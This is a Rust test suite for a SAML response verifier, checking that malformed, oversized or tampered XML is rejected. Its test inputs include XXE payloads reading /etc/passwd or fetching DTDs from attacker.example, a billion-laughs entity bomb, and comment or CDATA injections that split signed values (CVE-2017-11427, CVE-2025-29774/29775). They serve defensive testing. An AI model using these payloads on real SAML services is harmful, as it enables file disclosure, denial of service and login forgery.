//! The limits of a document, and what may not be in it at all.

use base64::{Engine as _, engine::general_purpose::STANDARD};

use super::{drafted, refused};
use crate::provider::{Draft, ENTITY_ID, ISSUER, expected, now, outcome};

#[test]
fn the_form_field_is_strict_base64_within_its_limits() {
    let judge = |field: &str| saml::verify(field, &expected(), now()).map_err(|error| error.code());
    let genuine = STANDARD.encode(Draft::okta().xml());
    assert!(judge(&genuine).is_ok());
    let in_lines: Vec<&str> =
        genuine.as_bytes().chunks(76).map(|line| str::from_utf8(line).unwrap()).collect();
    assert!(judge(&in_lines.join("\r\n")).is_ok());
    for (field, code) in [
        (String::new(), "malformed_xml"),
        (genuine.replace(['+', '/'], "-"), "not_base64"),
        (format!("{genuine}!"), "not_base64"),
        (format!("{genuine}AAAA"), "not_base64"),
        (genuine[1..].to_owned(), "not_base64"),
        ("A".repeat(350 * 1024 + 4), "form_field_too_large"),
        (" ".repeat(350 * 1024 + 1), "form_field_too_large"),
        ("A".repeat(350 * 1024), "message_too_large"),
        (STANDARD.encode([0xff, 0xfe, b'<', 0]), "not_utf8"),
        (STANDARD.encode("no XML"), "malformed_xml"),
    ] {
        // A padded field cannot go on; one without padding can.
        let code = if field.ends_with("AAAA") && !genuine.ends_with('=') && field.len() < 300_000 {
            "malformed_xml"
        } else {
            code
        };
        assert_eq!(judge(&field).map(|_| ()), Err(code), "{}", &field[..field.len().min(80)]);
    }
}

#[test]
fn documents_beyond_the_limits_are_not_looked_into() {
    let genuine = Draft::okta().xml();
    let inside =
        |piece: &str| genuine.replacen("<saml2p:Status>", &format!("{piece}<saml2p:Status>"), 1);
    let doctype =
        |subset: &str| genuine.replacen("?>", &format!("?><!DOCTYPE Response {subset}>"), 1);
    let entity = "[<!ENTITY a \"noor\">]";
    let laughs: String = (1..10)
        .map(|level| format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10)))
        .collect();
    refused(&[
        (
            "deep",
            inside(&format!("{}{}", "<saml2:a>".repeat(250), "</saml2:a>".repeat(250))),
            "too_deep",
        ),
        ("very deep", "<a>".repeat(60_000), "too_deep"),
        ("many elements", inside(&"<saml2:a/>".repeat(20_001)), "too_many_nodes"),
        ("many texts", inside(&"<saml2:a/>x".repeat(10_500)), "too_many_nodes"),
        (
            "many attributes",
            inside(&format!(
                "<saml2:a {}/>",
                (0..70).map(|n| format!("a{n}='' ")).collect::<String>()
            )),
            "too_many_attributes",
        ),
        (
            "many namespaces",
            inside(&format!(
                "<saml2:a {}/>",
                (0..64).map(|n| format!("xmlns:a{n}='a' ")).collect::<String>()
            )),
            "too_many_namespaces",
        ),
        ("large", inside(&" ".repeat(256 * 1024 + 1 - genuine.len())), "message_too_large"),
        ("DOCTYPE", doctype(""), "doctype"),
        ("entity", doctype(entity).replace("noor@", "&a;@"), "doctype"),
        ("external entity", doctype("[<!ENTITY a SYSTEM \"file:///etc/passwd\">]"), "doctype"),
        ("external subset", doctype("SYSTEM \"http://attacker.example/a.dtd\""), "doctype"),
        (
            "parameter entity",
            doctype("[<!ENTITY % a SYSTEM \"http://attacker.example/\"> %a;]"),
            "doctype",
        ),
        (
            "billion laughs",
            doctype(&format!("[<!ENTITY l0 \"ha\">{laughs}]")).replace("noor@", "&l9;@"),
            "doctype",
        ),
        ("default attribute", doctype("[<!ATTLIST Assertion ID CDATA \"a\">]"), "doctype"),
        ("undeclared entity", genuine.replacen("noor@", "&a;@", 1), "malformed_xml"),
        ("UTF-16 declared", genuine.replacen("UTF-8", "UTF-16", 1), "not_utf8"),
        ("another charset", genuine.replacen("UTF-8", "ISO-8859-1", 1), "not_utf8"),
        ("cut off", genuine[..genuine.len() / 2].to_owned(), "malformed_xml"),
        (
            "two roots",
            format!(
                "{genuine}<saml2p:Response xmlns:saml2p=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>"
            ),
            "malformed_xml",
        ),
        ("text behind", format!("{genuine}x"), "malformed_xml"),
        ("a NUL", genuine.replacen("noor@", "noor\0@", 1), "malformed_xml"),
        ("a reference to NUL", genuine.replacen("noor@", "noor&#0;@", 1), "malformed_xml"),
        ("an unknown prefix", inside("<zzz:a/>"), "malformed_xml"),
        (
            "a repeated attribute",
            genuine.replacen("Version=\"2.0\"", "Version=\"2.0\" Version=\"2.0\"", 1),
            "malformed_xml",
        ),
        ("two default namespaces", inside("<a xmlns='urn:a' xmlns='urn:b'/>"), "malformed_xml"),
        ("empty", String::new(), "malformed_xml"),
    ]);
}

/// Canonicalization leaves comments out, so a signature holds with and without them: what stands
/// around them must not be taken for the whole (CVE-2017-11427 and its relatives).
#[test]
fn no_value_is_split() {
    let genuine = Draft::okta().xml();
    let email = "noor@birchwood.example<";
    let places = [
        (email, "NameID"),
        ("Engineering<", "a group"),
        (&*format!("{ENTITY_ID}<"), "the audience"),
        (&*format!("{ISSUER}<"), "the issuer"),
        ("</ds:DigestValue>", "the digest (CVE-2025-29775)"),
        ("<ds:SignedInfo>", "the signature (CVE-2025-29774)"),
        ("</saml2p:Response>", "the response"),
    ];
    for (place, name) in places {
        for (piece, code) in [
            ("<!---->", "comment"),
            ("<!-- .evil.example -->", "comment"),
            ("<?a b?>", "processing_instruction"),
            ("<![CDATA[]]>", "cdata"),
            ("<![CDATA[a]]>", "cdata"),
        ] {
            let at = place.find('<').unwrap();
            let split = format!("{}{piece}{}", &place[..at], &place[at..]);
            let xml = genuine.replacen(place, &split, 1);
            assert_ne!(xml, genuine, "{name}");
            assert_eq!(outcome(&xml, &expected()), code, "{piece} in {name}");
            // In the middle of the text as well.
            if at > 3 {
                let xml =
                    genuine.replacen(place, &format!("{}{piece}{}", &place[..3], &place[3..]), 1);
                assert_eq!(outcome(&xml, &expected()), code, "{piece} within {name}");
            }
        }
    }
    refused(&[
        (
            "an element in the NameID",
            drafted(|draft| draft.name_id = draft.name_id.replace('@', "<saml2:a/>@")),
            "mixed_content",
        ),
        (
            "an element in a group",
            drafted(|draft| {
                draft.attributes = draft.attributes.replace("Engineering", "Engine<saml2:a/>ering");
            }),
            "mixed_content",
        ),
        (
            "an element in the audience",
            drafted(|draft| {
                draft.conditions = draft.conditions.replace("/metadata", "/metadata<saml2:a/>");
            }),
            "mixed_content",
        ),
        (
            "an element in the issuer",
            drafted(|draft| {
                draft.issuer = draft.issuer.replace("</saml2:Issuer>", "<saml2:a/></saml2:Issuer>");
            }),
            "mixed_content",
        ),
        (
            "text between elements",
            drafted(|draft| draft.conditions.push_str("admin")),
            "mixed_content",
        ),
        (
            "an element in the digest",
            genuine.replacen("</ds:DigestValue>", "<ds:a/></ds:DigestValue>", 1),
            "mixed_content",
        ),
        (
            "a no-break space between elements",
            drafted(|draft| draft.conditions.push('\u{a0}')),
            "mixed_content",
        ),
    ]);
}
